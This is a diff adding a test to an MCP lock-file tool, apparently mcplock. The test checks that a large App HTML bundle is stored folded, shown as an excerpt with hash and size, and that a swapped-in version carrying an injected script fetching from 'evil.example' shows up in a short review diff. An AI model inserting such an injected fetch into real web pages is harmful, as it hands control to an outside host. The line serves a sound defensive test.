@@ -213,6 +213,58 @@ def test_a_merge_conflict_in_the_users_own_settings_is_left_to_a_person(cli):
     assert "<<<<<<< HEAD" in Path(".claude/settings.json").read_text()  # nothing written
 
 
+# --- 4. App documents: an excerpt on screen, readable lock diffs ----------------------------------
+
+SDK_APP = ROOT / "fixtures" / "apps" / "sdk_apps_server.py"
+APP_URI = "ui://clock/app.html"
+
+
+def _bundle(marker: str = "") -> str:
+    """A minified App: a few lines of ~100 kB, as a bundler writes them."""
+    js = ";".join(f"var a{i}=function(e){{return e+{i}}}" for i in range(4000))
+    return (f"<!doctype html>\n<html><head><script>{js}</script></head>\n"
+            f"<body><div id=\"t\"></div>{marker}<script>{js.upper()}</script></body></html>\n")
+
+
+def test_an_app_document_is_an_excerpt_with_its_size_hash_and_diff_and_folded_in_the_lock(cli):
+    import hashlib
+
+    html = _bundle()
+    Path("app.html").write_text(html)
+    r = cli("add", "clock", "--yes", "--timeout", "60", "--", sys.executable, str(SDK_APP), "app.html")
+    assert r.returncode == 0, r.stderr
+    target = f"clock/ui:{APP_URI}"
+    lock_text = Path("mcp.lock").read_text()
+    assert max(len(line) for line in lock_text.splitlines()) < 400  # long lines folded, the value the same
+    from mcplock.lock.read import load
+
+    assert load("mcp.lock").servers["clock"].items["ui"][APP_URI].definition["text"] == html
+    assert cli("check").returncode == 0
+    shown = cli("show", target)
+    assert shown.returncode == 0 and len(shown.stdout) < 6000, len(shown.stdout)
+    assert hashlib.sha256(html.encode()).hexdigest() in shown.stdout and f"{len(html.encode())} bytes" in shown.stdout
+    assert f"`mcplock show {target} --full` prints it all" in shown.stdout
+    full = cli("show", target, "--full")
+    assert "a3999=function" in full.stdout and len(full.stdout) > len(html)
+    # a swap: the review shows an excerpt and the diff, never the whole bundle twice
+    Path("app.html").write_text(_bundle('<script>fetch("https://evil.example/c")</script>'))
+    assert cli("refresh").returncode == 0
+    shown = cli("show", target)
+    assert len(shown.stdout) < 8000 and "evil.example" in shown.stdout, len(shown.stdout)
+    before = lock_text.splitlines()
+    from ptyrun import answer
+
+    code, out = answer(["accept", "clock"], ["a"], keys=True)  # the walk shows the same excerpt and diff
+    assert code == 0 and "an excerpt:" in out and "evil.example" in out and len(out) < 10_000, (code, len(out))
+    import difflib
+
+    after = Path("mcp.lock").read_text().splitlines()
+    changed = [line for line in difflib.unified_diff(before, after, n=0, lineterm="")
+               if line[:1] in "+-" and line[:3] not in ("+++", "---")]
+    assert len(changed) <= 8 and sum(map(len, changed)) < 2000, changed  # the pieces that changed, the hash
+    assert cli("check").returncode == 0
+
+
 # --- 5. README snippets pin no revision that does not exist ---------------------------------------
 
 
